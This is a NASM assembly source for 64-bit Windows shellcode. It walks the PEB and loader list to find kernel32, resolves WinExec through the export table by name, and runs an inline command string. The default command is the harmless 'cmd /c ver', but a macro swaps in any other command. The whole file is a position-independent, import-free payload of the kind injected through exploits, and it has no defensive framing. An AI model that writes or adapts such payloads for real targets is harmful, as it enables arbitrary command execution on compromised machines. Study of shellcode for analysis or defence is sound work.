; Windows, 64 bit: PEB, loader list, export table searched for "WinExec" by its letters; WinExec("cmd /c ver", 0).
bits 64
%ifndef WINDOWS_COMMAND
%define WINDOWS_COMMAND 'cmd /c ver'
%endif
        sub rsp, 0x58
        and rsp, -16
        mov rax, [gs:0x60]
        mov rax, [rax + 0x18]
        mov rax, [rax + 0x20]   ; memory order: program, ntdll, kernel32
        mov rax, [rax]
        mov rax, [rax]
        mov rbx, [rax + 0x20]
        mov eax, [rbx + 0x3c]
        mov edx, [rbx + rax + 0x88]
        add rdx, rbx
        mov esi, [rdx + 0x20]
        add rsi, rbx
        xor ecx, ecx
        mov r8, 'WinExec'
next:   mov eax, [rsi + rcx * 4]
        inc ecx
        cmp [rbx + rax], r8
        jne next
        dec ecx
        mov esi, [rdx + 0x24]
        add rsi, rbx
        movzx ecx, word [rsi + rcx * 2]
        mov esi, [rdx + 0x1c]
        add rsi, rbx
        mov eax, [rsi + rcx * 4]
        add rax, rbx
        call run
        db WINDOWS_COMMAND, 0
run:    pop rcx
        xor edx, edx
        call rax
        int3
